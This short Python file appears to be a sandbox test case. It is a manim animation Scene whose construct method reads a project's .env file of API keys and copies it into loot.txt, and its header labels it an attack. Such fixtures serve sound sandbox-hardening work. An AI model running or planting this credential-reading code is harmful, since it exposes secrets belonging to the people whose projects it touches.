# family: file
# layer: sandbox
# attack: read the project's .env (API keys)
from manim import *


class Attack(Scene):
    def construct(self):
        loot = open("{{PROJECT}}/.env").read()
        open("loot.txt", "w").write(loot)
        self.wait(0.1)
